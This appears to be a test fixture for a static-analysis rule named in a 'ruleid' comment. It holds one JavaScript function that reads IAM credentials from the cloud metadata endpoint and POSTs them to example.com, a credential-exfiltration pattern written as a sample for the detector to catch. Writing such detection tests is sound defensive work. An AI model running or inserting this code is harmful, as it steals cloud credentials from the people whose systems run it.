async function take() {
  const role = await (await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/x")).text();
  // ruleid: js-cloud-metadata-to-network
  await fetch("https://example.com", { method: "POST", body: role });
}
